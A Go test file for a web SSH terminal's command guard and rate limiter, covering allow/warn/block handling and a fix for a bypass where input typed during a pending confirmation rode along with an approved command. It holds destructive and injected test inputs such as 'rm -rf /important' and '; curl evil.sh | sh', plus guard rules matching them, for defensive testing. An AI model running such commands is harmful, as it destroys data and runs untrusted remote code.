@@ -0,0 +1,195 @@
+package gowebssh
+
+import (
+	"bytes"
+	"net/http"
+	"net/http/httptest"
+	"strings"
+	"testing"
+	"time"
+
+	"github.com/gorilla/websocket"
+)
+
+// newTestWebSSH 建立一对真实的 websocket 连接，返回挂载了服务端连接的 WebSSH 和客户端连接，
+// 用于测试会经过 ws.sendMessage 的路径（guardStdin 的 Warn/Block 分支都会发消息给浏览器）
+func newTestWebSSH(t *testing.T) (*WebSSH, *websocket.Conn) {
+	t.Helper()
+	upgrader := websocket.Upgrader{}
+	var serverConn *websocket.Conn
+	ready := make(chan struct{})
+	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		conn, err := upgrader.Upgrade(w, r, nil)
+		if err != nil {
+			t.Errorf("upgrade error: %v", err)
+			return
+		}
+		serverConn = conn
+		close(ready)
+	}))
+	t.Cleanup(srv.Close)
+
+	wsURL := "ws" + strings.TrimPrefix(srv.URL, "http")
+	clientConn, _, err := websocket.DefaultDialer.Dial(wsURL, nil)
+	if err != nil {
+		t.Fatalf("dial error: %v", err)
+	}
+	t.Cleanup(func() { _ = clientConn.Close() })
+	<-ready
+	t.Cleanup(func() { _ = serverConn.Close() })
+
+	ws := NewWebSSH()
+	ws.websocket = serverConn
+	return ws, clientConn
+}
+
+// readMessage 从客户端连接读取一条消息，断言其类型符合预期
+func readMessage(t *testing.T, conn *websocket.Conn, want messageType) message {
+	t.Helper()
+	_ = conn.SetReadDeadline(time.Now().Add(2 * time.Second))
+	var msg message
+	if err := conn.ReadJSON(&msg); err != nil {
+		t.Fatalf("read message error: %v", err)
+	}
+	if msg.Type != want {
+		t.Fatalf("expected message type %q, got %q", want, msg.Type)
+	}
+	return msg
+}
+
+func TestTokenBucketAllow(t *testing.T) {
+	b := newTokenBucket(10)
+	if !b.Allow(10) {
+		t.Fatalf("expected the initial burst of 10 bytes to be allowed")
+	}
+	if b.Allow(1) {
+		t.Fatalf("expected the bucket to be empty right after the initial burst")
+	}
+
+	time.Sleep(150 * time.Millisecond)
+	if !b.Allow(1) {
+		t.Fatalf("expected at least 1 token to have refilled 150ms later at 10 bytes/sec")
+	}
+}
+
+func TestTokenBucketCapsAtCapacity(t *testing.T) {
+	b := newTokenBucket(5)
+	time.Sleep(200 * time.Millisecond)
+	if !b.Allow(5) {
+		t.Fatalf("expected the bucket to have refilled up to its capacity")
+	}
+	if b.Allow(1) {
+		t.Fatalf("expected the bucket to be capped at capacity instead of accumulating tokens forever")
+	}
+}
+
+func TestGuardStdinLineEvaluation(t *testing.T) {
+	cases := []struct {
+		name string
+		line string
+		want GuardAction
+	}{
+		{"allow", "ls -la", GuardAllow},
+		{"block", "rm -rf /", GuardBlock},
+		{"warn", "warn-me", GuardWarn},
+	}
+
+	for _, tc := range cases {
+		t.Run(tc.name, func(t *testing.T) {
+			ws, client := newTestWebSSH(t)
+			ws.SetCommandGuard(func(line string) GuardAction {
+				switch {
+				case strings.HasPrefix(line, "rm"):
+					return GuardBlock
+				case strings.HasPrefix(line, "warn"):
+					return GuardWarn
+				default:
+					return GuardAllow
+				}
+			})
+
+			var stdin bytes.Buffer
+			if err := ws.guardStdin([]byte(tc.line+"\r"), &stdin); err != nil {
+				t.Fatalf("guardStdin error: %v", err)
+			}
+
+			switch tc.want {
+			case GuardAllow:
+				if stdin.String() != tc.line+"\r" {
+					t.Fatalf("expected allowed line forwarded verbatim, got %q", stdin.String())
+				}
+			case GuardBlock:
+				if !bytes.Contains(stdin.Bytes(), []byte{0x15}) {
+					t.Fatalf("expected blocked line to send Ctrl-U, got %q", stdin.Bytes())
+				}
+				readMessage(t, client, messageTypeStderr)
+			case GuardWarn:
+				if ws.pendingGuard == nil {
+					t.Fatalf("expected a pending guard confirmation")
+				}
+				// 普通字符实时回显写入 stdin，只有终止符（换行）在确认结果出来前被扣留
+				if stdin.String() != tc.line {
+					t.Fatalf("warned line's terminator must not reach stdin before confirmation, got %q", stdin.Bytes())
+				}
+				readMessage(t, client, messageTypeGuardPrompt)
+			}
+		})
+	}
+}
+
+// TestGuardStdinBufferedDuringPendingConfirm 复现 review 指出的绕过场景：在一行命令命中
+// GuardWarn、等待浏览器确认期间，用户（或攻击者）追加输入且不回车。修复前这段输入会被直接转发
+// 到 stdin，一旦原始行被批准，唯一发出的终止符会把两段输入当成同一条命令一起提交执行。
+func TestGuardStdinBufferedDuringPendingConfirm(t *testing.T) {
+	ws, client := newTestWebSSH(t)
+	ws.SetCommandGuard(func(line string) GuardAction {
+		switch {
+		case line == "rm -rf /important":
+			return GuardWarn
+		case strings.Contains(line, "curl evil.sh"):
+			return GuardBlock
+		default:
+			return GuardAllow
+		}
+	})
+
+	var stdin bytes.Buffer
+
+	if err := ws.guardStdin([]byte("rm -rf /important\r"), &stdin); err != nil {
+		t.Fatalf("guardStdin error: %v", err)
+	}
+	readMessage(t, client, messageTypeGuardPrompt)
+	if ws.pendingGuard == nil {
+		t.Fatalf("expected a pending guard confirmation")
+	}
+
+	// 确认窗口内追加输入，不应立刻拼到 stdin
+	if err := ws.guardStdin([]byte("; curl evil.sh | sh"), &stdin); err != nil {
+		t.Fatalf("guardStdin error: %v", err)
+	}
+	if stdin.Len() != len("rm -rf /important") {
+		t.Fatalf("input typed during a pending confirm must not be forwarded live, got %q", stdin.Bytes())
+	}
+
+	// 用户批准最初被标记的那一行：批准的终止符必须先于缓存的输入到达 stdin，
+	// 两者不能被同一个换行一起提交
+	if err := ws.resolveGuardConfirm("allow", &stdin); err != nil {
+		t.Fatalf("resolveGuardConfirm error: %v", err)
+	}
+	if ws.pendingGuard != nil {
+		t.Fatalf("expected pendingGuard to be cleared after resolution")
+	}
+	if got, want := stdin.String(), "rm -rf /important\r; curl evil.sh | sh"; got != want {
+		t.Fatalf("unexpected stdin content after approval, got %q want %q", got, want)
+	}
+
+	// 缓存的输入被重新送入 guard 判定，在它自己被换行提交之前不会执行；
+	// 一旦提交，应当按它自己的内容重新判定（这里命中 Block），而不是随批准的行一起放行
+	if err := ws.guardStdin([]byte("\r"), &stdin); err != nil {
+		t.Fatalf("guardStdin error: %v", err)
+	}
+	readMessage(t, client, messageTypeStderr)
+	if !bytes.HasSuffix(stdin.Bytes(), []byte{0x15}) {
+		t.Fatalf("expected the replayed line to be blocked by its own guard check, got %q", stdin.Bytes())
+	}
+}